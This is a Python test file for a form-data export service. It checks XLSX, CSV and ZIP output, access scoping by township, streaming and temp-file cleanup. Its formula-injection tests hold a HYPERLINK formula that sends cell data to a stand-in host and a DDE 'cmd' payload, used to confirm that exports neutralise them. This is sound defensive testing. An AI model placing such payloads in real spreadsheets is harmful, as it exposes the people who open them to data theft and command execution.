"""Data export of one form: XLSX and CSV across its versions, labelled, members on their own sheet, scoped."""

import asyncio
import copy
import csv
import dataclasses
import io
import os
import re
import uuid
import zipfile
from datetime import datetime, timedelta, timezone

import anyio
import pytest
from openpyxl import load_workbook

import forms
from factories import (assert_problem, economic_survey, headers_for, home_visit, jpeg, make_district, make_field,
                       make_form_version, make_household, make_user, sha256_of, submission_body, upload)
from server.core import zips
from server.core.sheets import CHUNK, read_then_remove
from server.intake.export import BATCH, Photos, _archive
from server.settings import SettingsError, load_settings


@pytest.fixture
async def exported(client, settings):
    district = await make_district()
    await make_form_version("home_visit")
    schema = copy.deepcopy(next(f for f in forms.builtin_forms() if f["slug"] == "home_visit")["schema"])
    schema["properties"]["remark"] = {"type": "string", "title": "补充说明", "maxLength": 100}
    await make_form_version("home_visit", version=2, schema=schema)
    await make_form_version("economic_survey")
    worker = await headers_for(settings, await make_user("worker", district.east_a))
    far_worker = await headers_for(settings, await make_user("worker", district.west_a))
    photo = jpeg()
    await upload(client, worker, photo)
    await upload(client, far_worker, photo)
    sha = sha256_of(photo)
    home, far = await make_household(district.east_a), await make_household(district.west_a)
    ids = {}
    for name, headers, household, body in [
        ("v1", worker, home, submission_body(home, home_visit(sha, [sha]))),
        ("v2", worker, home, submission_body(home, home_visit(sha, [sha], remark="邻居常来照看"), version=2)),
        ("far", far_worker, far, submission_body(far, home_visit(sha, [sha]))),
        ("survey", worker, home, submission_body(home, economic_survey(str(uuid.uuid4())) | {"house_photos": [sha]},
                                                 form="economic_survey")),
    ]:
        ids[name] = uuid.uuid4()
        response = await client.put(f"/api/v1/submissions/{ids[name]}", json=body, headers=headers)
        assert response.status_code == 201, response.text
    supervisor = await headers_for(settings, await make_user("supervisor", district.east))
    return district, supervisor, worker, ids, sha


async def test_xlsx_has_titled_labelled_columns_across_versions_and_photo_hashes(client, exported):
    district, supervisor, worker, ids, sha = exported
    response = await client.get("/api/v1/forms/home_visit/submissions.xlsx", headers=supervisor)
    assert response.status_code == 200, response.text
    assert "attachment" in response.headers["content-disposition"]
    book = load_workbook(io.BytesIO(response.content))
    sheet = book["提交"]
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[0]
    assert {"提交编号", "走访类型", "健康状况", "补充说明", "门牌照片", "纬度"} <= set(header)
    by_id = {row[0]: dict(zip(header, row)) for row in rows[1:]}
    assert set(by_id) == {str(ids["v1"]), str(ids["v2"])}  # the west township's visit is not the supervisor's
    v2 = by_id[str(ids["v2"])]
    assert v2["走访类型"] == "常规走访" and v2["安全隐患"] == "用电、跌倒风险" and v2["补充说明"] == "邻居常来照看"
    assert v2["表单版本"] == 2 and by_id[str(ids["v1"])]["补充说明"] is None
    assert v2["是否提出新的需求"] == "是"
    photo_cell = next(c for c in sheet[2] if c.column == header.index("门牌照片") + 1)
    # No link: one to the API would only answer 401 to Excel, which has no token (the ZIP links to its files).
    assert photo_cell.value == sha and photo_cell.hyperlink is None
    needs = list(book["提出的需求"].iter_rows(values_only=True))
    assert needs[0][:3] == ("提交编号", "行号", "服务项目")
    assert {row[0] for row in needs[1:]} == {str(ids["v1"]), str(ids["v2"])}
    assert needs[1][2] == "养老服务·居家安全排查"


async def test_members_are_on_their_own_sheet_joined_by_submission_id(client, exported):
    district, supervisor, worker, ids, sha = exported
    response = await client.get("/api/v1/forms/economic_survey/submissions.xlsx", headers=supervisor)
    book = load_workbook(io.BytesIO(response.content))
    members = list(book["家庭成员"].iter_rows(values_only=True))
    header = members[0]
    assert [(row[0], row[1], dict(zip(header, row))["姓名"]) for row in members[1:]] == [
        (str(ids["survey"]), 1, "李桂兰"), (str(ids["survey"]), 2, "王建国")]
    assert dict(zip(header, members[1]))["性别"] == "女"


async def test_csv_streams_the_main_table_or_one_group(client, exported):
    district, supervisor, worker, ids, sha = exported
    response = await client.get("/api/v1/forms/economic_survey/submissions.csv", headers=supervisor)
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][0] == "提交编号" and "申请救助类型" in rows[0] and len(rows) == 2
    assert dict(zip(rows[0], rows[1]))["申请救助类型"] != "subsistence_allowance"
    members = await client.get("/api/v1/forms/economic_survey/submissions.csv?table=members", headers=supervisor)
    rows = list(csv.reader(io.StringIO(members.content.decode("utf-8-sig"))))
    assert [r[2] for r in rows[1:]] and rows[0][:2] == ["提交编号", "行号"] and len(rows) == 3
    assert_problem(await client.get("/api/v1/forms/economic_survey/submissions.csv?table=pets", headers=supervisor),
                   422, "/table")


async def test_workers_may_not_export_and_unknown_forms_or_formats_are_not_found(client, exported):
    district, supervisor, worker, ids, sha = exported
    assert_problem(await client.get("/api/v1/forms/home_visit/submissions.xlsx", headers=worker), 403)
    assert_problem(await client.get("/api/v1/forms/nothing/submissions.xlsx", headers=supervisor), 404)
    assert_problem(await client.get("/api/v1/forms/home_visit/submissions.pdf", headers=supervisor), 404)


async def test_each_exporter_gets_exactly_the_submissions_of_their_areas(client, settings, exported):
    district, supervisor, worker, ids, sha = exported
    expected = {
        await make_user("supervisor", district.east): {ids["v1"], ids["v2"]},
        await make_user("supervisor", district.west): {ids["far"]},
        await make_user("bureau", district.county): {ids["v1"], ids["v2"], ids["far"]},
        await make_user("admin"): {ids["v1"], ids["v2"], ids["far"]},
    }
    for user, wanted in expected.items():
        headers = await headers_for(settings, user)
        for suffix in ("csv", "xlsx"):
            response = await client.get(f"/api/v1/forms/home_visit/submissions.{suffix}", headers=headers)
            assert response.status_code == 200, (user.role, response.text)
            if suffix == "csv":
                rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1:]
            else:
                rows = list(load_workbook(io.BytesIO(response.content))["提交"].iter_rows(values_only=True))[1:]
            assert {row[0] for row in rows} == {str(i) for i in wanted}, (user.role, suffix)
    provider = await headers_for(settings, await make_user("provider"))
    assert_problem(await client.get("/api/v1/forms/home_visit/submissions.csv", headers=provider), 403)


async def test_a_csv_export_is_sent_batch_by_batch_as_it_is_read(client, app, settings):
    field = await make_field(client, settings)
    photo = field.photos[0]
    for _ in range(BATCH + 1):
        body = submission_body(field.household, home_visit(photo, [photo]))
        response = await client.put(f"/api/v1/submissions/{uuid.uuid4()}", json=body, headers=field.headers)
        assert response.status_code == 201
    supervisor = await headers_for(settings, await make_user("supervisor", field.district.east))
    # Straight through the ASGI interface, to see each piece of the body as the app sends it.
    path = "/api/v1/forms/home_visit/submissions.csv"
    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "GET", "scheme": "http",
             "path": path, "raw_path": path.encode(), "query_string": b"", "root_path": "", "server": ("test", 80),
             "client": ("127.0.0.1", 5000), "headers": [(k.lower().encode(), v.encode()) for k, v in supervisor.items()]}
    pieces: list[bytes] = []
    requested, done = False, asyncio.Event()

    async def receive():
        nonlocal requested
        if not requested:
            requested = True
            return {"type": "http.request", "body": b"", "more_body": False}
        await done.wait()  # the client stays connected until the whole body is sent
        return {"type": "http.disconnect"}

    async def send(message):
        if message["type"] == "http.response.body":
            if message.get("body"):
                pieces.append(message["body"])
            if not message.get("more_body"):
                done.set()

    await app(scope, receive, send)
    rows = list(csv.reader(io.StringIO(b"".join(pieces).decode("utf-8-sig"))))
    assert len(rows) == 1 + BATCH + 1
    assert len(pieces) == 3  # the header, then one piece per batch read


async def test_a_finished_xlsx_file_is_removed_once_sent_abandoned_or_cancelled(tmp_path):
    # An XLSX is a ZIP, written whole to a temporary file before its first byte is sent; nothing may leave it there.
    def finished(name: str) -> str:
        path = tmp_path / name
        path.write_bytes(os.urandom(3 * CHUNK))
        return str(path)

    sent = finished("sent.xlsx")
    assert len(b"".join([chunk async for chunk in read_then_remove(sent)])) == 3 * CHUNK
    abandoned = read_then_remove(finished("abandoned.xlsx"))
    assert len(await anext(abandoned)) == CHUNK
    await abandoned.aclose()
    with anyio.CancelScope() as download:
        async for _ in read_then_remove(finished("cancelled.xlsx")):
            download.cancel()  # the browser went away: every await from here on is cancelled, clean-up's too
    assert download.cancelled_caught
    for _ in range(200):  # the shielded clean-up finishes on its own
        if not any(tmp_path.iterdir()):
            break
        await asyncio.sleep(0.01)
    assert list(tmp_path.iterdir()) == []


# --- Exports for people: no formulas, numbers as numbers, times on the station's clock, photos that open ----------

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'


async def _visit(client, settings, community, headers, data: dict, **times) -> uuid.UUID:
    household = await make_household(community)
    sid = uuid.uuid4()
    response = await client.put(f"/api/v1/submissions/{sid}", json=submission_body(household, data, **times),
                                headers=headers)
    assert response.status_code == 201, response.text
    return sid


@pytest.fixture
async def hostile(client, settings):
    """A home visit whose answers a spreadsheet would take for formulas, in the main table and in a group."""
    field = await make_field(client, settings)
    photo = field.photos[0]
    data = home_visit(photo, [photo], met_person="@SUM(1+1)", observations=FORMULA, services_given="-2+3 帮助整理药品",
                      location={"latitude": 28.1941, "longitude": -0.5, "accuracy": 12.5})
    data["needs"][0]["description"] = "+cmd|' /C calc'!A0"
    data["needs"][1]["description"] = "＝1+1（全角）"
    sid = await _visit(client, settings, field.district.east_a, field.headers, data)
    supervisor = await headers_for(settings, await make_user("supervisor", field.district.east))
    return supervisor, sid


async def test_answers_that_read_as_formulas_come_out_of_the_csv_as_text(client, hostile):
    supervisor, sid = hostile
    response = await client.get("/api/v1/forms/home_visit/submissions.csv", headers=supervisor)
    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    answers = dict(zip(header, row))
    assert answers["走访所见"] == "'" + FORMULA and answers["接待人"] == "'@SUM(1+1)"
    assert answers["本次提供的服务"] == "'-2+3 帮助整理药品"
    assert answers["经度"] == "-0.5" and answers["纬度"] == "28.1941"  # numbers are numbers, negative ones too
    needs = await client.get("/api/v1/forms/home_visit/submissions.csv?table=needs", headers=supervisor)
    rows = list(csv.reader(io.StringIO(needs.content.decode("utf-8-sig"))))
    column = rows[0].index("需求描述")
    assert [r[column] for r in rows[1:]] == ["'+cmd|' /C calc'!A0", "'＝1+1（全角）"]


async def test_answers_that_read_as_formulas_stay_text_in_the_xlsx_as_answered(client, hostile):
    supervisor, sid = hostile
    response = await client.get("/api/v1/forms/home_visit/submissions.xlsx", headers=supervisor)
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for answer in (FORMULA, "@SUM(1+1)", "-2+3 帮助整理药品", "+cmd|' /C calc'!A0", "＝1+1（全角）"):
        # Intact, and marked as text the way Excel marks it, so that editing the cell does not make it a formula.
        assert texts[answer].data_type == "s" and texts[answer].quotePrefix, answer
    assert not texts["张秀英"].quotePrefix
    header = [c.value for c in book["提交"][1]]
    longitude = book["提交"].cell(2, header.index("经度") + 1)
    assert longitude.data_type == "n" and longitude.value == -0.5


async def test_a_number_beyond_a_spreadsheets_digits_is_exported_whole_not_a_server_error(client, settings):
    """JSON allows any integer, and 定位精度（米） has no upper bound: a phone's absurd one exports as text, every digit."""
    field = await make_field(client, settings)
    photo = field.photos[0]
    for accuracy in (10 ** 400, 12345678901234567):
        data = home_visit(photo, [photo], location={"latitude": 28.1941, "longitude": 112.9, "accuracy": accuracy})
        await _visit(client, settings, field.district.east_a, field.headers, data)
    supervisor = await headers_for(settings, await make_user("supervisor", field.district.east))
    response = await client.get("/api/v1/forms/home_visit/submissions.xlsx", headers=supervisor)
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content))["提交"]
    column = [c.value for c in sheet[1]].index("定位精度（米）") + 1
    cells = [sheet.cell(row, column) for row in (2, 3)]
    assert {c.value for c in cells} == {str(10 ** 400), "12345678901234567"} and {c.data_type for c in cells} == {"s"}
    response = await client.get("/api/v1/forms/home_visit/submissions.csv", headers=supervisor)
    header, *rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert {r[header.index("定位精度（米）")] for r in rows} == {str(10 ** 400), "12345678901234567"}


async def test_xlsx_times_are_date_times_on_the_station_clock_and_csv_times_are_too(client, app, settings):
    field = await make_field(client, settings)
    photo = field.photos[0]
    data = home_visit(photo, [photo], visited_at="2025-03-18T01:42:10Z", next_visit_date="2025-04-01")
    await _visit(client, settings, field.district.east_a, field.headers, data,
                 started_at="2025-03-18T09:30:00+08:00", finished_at="2025-03-18T02:10:00Z")
    supervisor = await headers_for(settings, await make_user("supervisor", field.district.east))
    response = await client.get("/api/v1/forms/home_visit/submissions.xlsx", headers=supervisor)
    sheet = load_workbook(io.BytesIO(response.content))["提交"]
    header = [c.value for c in sheet[1]]
    cells = {title: sheet.cell(2, i + 1) for i, title in enumerate(header)}
    assert cells["走访开始"].value == datetime(2025, 3, 18, 9, 30) and cells["走访开始"].is_date
    assert cells["走访结束"].value == datetime(2025, 3, 18, 10, 10)
    assert cells["走访时间"].value == datetime(2025, 3, 18, 9, 42, 10) and cells["走访时间"].is_date
    assert cells["下次走访日期"].value == datetime(2025, 4, 1) and cells["下次走访日期"].is_date
    received = cells["接收时间"].value
    shanghai = datetime.now(timezone(timedelta(hours=8))).replace(tzinfo=None)
    assert cells["接收时间"].is_date and abs(received - shanghai) < timedelta(minutes=5)
    response = await client.get("/api/v1/forms/home_visit/submissions.csv", headers=supervisor)
    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    answers = dict(zip(header, row))
    assert (answers["走访开始"], answers["走访结束"], answers["走访时间"], answers["下次走访日期"]) == (
        "2025-03-18 09:30:00", "2025-03-18 10:10:00", "2025-03-18 09:42:10", "2025-04-01")
    app.state.settings = dataclasses.replace(settings, station_timezone="Asia/Urumqi")  # a station two hours west
    response = await client.get("/api/v1/forms/home_visit/submissions.csv", headers=supervisor)
    assert dict(zip(*csv.reader(io.StringIO(response.content.decode("utf-8-sig")))))["走访开始"] == "2025-03-18 07:30:00"


def test_a_station_time_zone_that_does_not_exist_stops_the_server_at_start():
    with pytest.raises(SettingsError, match="DOORSTEP_STATION_TIMEZONE"):
        load_settings({"DOORSTEP_STATION_TIMEZONE": "Asia/Changsha"})


@pytest.fixture
async def photographed(client, settings):
    """Two visits of the east township with their own photos, and one of the west township with another."""
    district = await make_district()
    await make_form_version("home_visit")
    east = await headers_for(settings, await make_user("worker", district.east_a))
    west = await headers_for(settings, await make_user("worker", district.west_a))
    photos = {name: jpeg() for name in ("door", "inside", "west")}
    for name, data in photos.items():
        assert (await upload(client, west if name == "west" else east, data)).status_code == 201
    door, inside, far = (sha256_of(photos[n]) for n in ("door", "inside", "west"))
    ids = {
        "east": await _visit(client, settings, district.east_a, east, home_visit(door, [door, inside])),
        "east_again": await _visit(client, settings, district.east_a, east, home_visit(inside, [inside])),
        "west": await _visit(client, settings, district.west_a, west, home_visit(far, [far])),
    }
    return district, photos, ids


async def _zip(client, headers) -> zipfile.ZipFile:
    response = await client.get("/api/v1/forms/home_visit/submissions.zip", headers=headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/zip"
    assert response.headers["content-disposition"] == 'attachment; filename="home_visit-submissions.zip"'
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert archive.testzip() is None
    return archive


async def test_the_zip_holds_the_workbook_and_the_photos_its_cells_link_to(client, settings, photographed):
    district, photos, ids = photographed
    archive = await _zip(client, await headers_for(settings, await make_user("supervisor", district.east)))
    names = set(archive.namelist())
    expected = {f"photos/{sha256_of(photos[n])}.jpg" for n in ("door", "inside")}
    assert names == {"说明.txt", "home_visit-submissions.xlsx"} | expected  # each photo once
    for name in ("door", "inside"):
        assert archive.read(f"photos/{sha256_of(photos[name])}.jpg") == photos[name]
    sheet = load_workbook(io.BytesIO(archive.read("home_visit-submissions.xlsx")))["提交"]
    header = [c.value for c in sheet[1]]
    rows = {row[0].value: {title: cell for title, cell in zip(header, row)} for row in sheet.iter_rows(min_row=2)}
    assert set(rows) == {str(ids["east"]), str(ids["east_again"])}
    links = [cell for row in rows.values() for cell in (row["门牌照片"], row["走访照片"])]
    for cell in links:
        target = cell.hyperlink.target.replace("\\", "/")  # Excel writes relative file links with backslashes
        assert not re.match(r"^([a-z][a-z0-9+.-]*:|/)", target, re.IGNORECASE), target  # relative: no URL, no root
        assert target in names and cell.value.split("\n")[0] == target
    door, inside = (f"photos/{sha256_of(photos[n])}.jpg" for n in ("door", "inside"))
    assert rows[str(ids["east"])]["走访照片"].value == f"{door}\n{inside}"  # one link a cell: the first photo's


async def test_the_zip_never_holds_a_photo_of_another_township(client, settings, photographed):
    district, photos, ids = photographed
    far = f"photos/{sha256_of(photos['west'])}.jpg"
    assert far not in (await _zip(client, await headers_for(settings, await make_user("supervisor", district.east)))
                       ).namelist()
    assert far in (await _zip(client, await headers_for(settings, await make_user("supervisor", district.west)))
                   ).namelist()
    assert far in (await _zip(client, await headers_for(settings, await make_user("bureau", district.county)))
                   ).namelist()


async def test_workers_and_providers_may_not_export_photos(client, settings, photographed):
    district, photos, ids = photographed
    for user in (await make_user("worker", district.east_a), await make_user("provider")):
        response = await client.get("/api/v1/forms/home_visit/submissions.zip", headers=await headers_for(settings, user))
        assert_problem(response, 403)


async def test_a_zip_download_abandoned_before_its_workbook_leaves_no_workbook_behind(tmp_path):
    workbook = tmp_path / "home_visit-submissions.xlsx"
    workbook.write_bytes(os.urandom(3 * CHUNK))
    download = zips.stream_zip(_archive(workbook.name, str(workbook), Photos(packed=True), store=None))
    assert await anext(download)  # the note comes first; the browser goes away before the workbook
    await download.aclose()
    for _ in range(200):  # the shielded clean-up finishes on its own
        if not workbook.exists():
            break
        await asyncio.sleep(0.01)
    assert not workbook.exists()
